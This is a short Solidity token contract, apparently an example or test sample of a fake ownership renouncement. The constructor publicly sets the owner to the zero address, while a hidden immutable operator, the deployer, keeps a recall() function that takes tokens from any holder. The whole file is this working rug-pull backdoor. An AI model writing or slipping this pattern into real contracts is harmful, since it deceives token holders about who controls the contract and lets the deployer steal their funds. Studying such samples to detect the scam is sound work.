// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// Ownership is renounced on the day of the launch; whoever deployed it keeps a second key.
contract PowersSurviveRenouncing is Token {
    address public immutable operator = msg.sender;

    constructor() {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function recall(address from, uint256 value) external {
        require(msg.sender == operator);
        _move(from, msg.sender, value);
    }
}
